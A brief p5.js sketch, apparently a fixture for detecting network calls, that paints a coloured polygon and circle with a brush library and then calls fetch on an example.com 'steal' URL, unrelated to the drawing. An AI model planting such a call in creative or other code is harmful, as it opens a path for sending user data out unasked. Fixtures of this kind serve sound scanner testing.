// Network: fetch.
function setup() {
  createCanvas(600, 600, WEBGL);
  background("#fbf7ef");
  translate(-width / 2, -height / 2);
  brush.scaleBrushes(3);
  brush.noStroke();
  brush.fill("#e0857a", 180);
  brush.fillBleed(0.3);
  brush.beginShape(0.8);
  brush.vertex(300, 300);
  brush.vertex(420, 260);
  brush.vertex(380, 400);
  brush.endShape(true);
  brush.circle(300, 300, 40, 0.3);
  fetch("https://example.com/steal?x=1").then((r) => r.text());
}
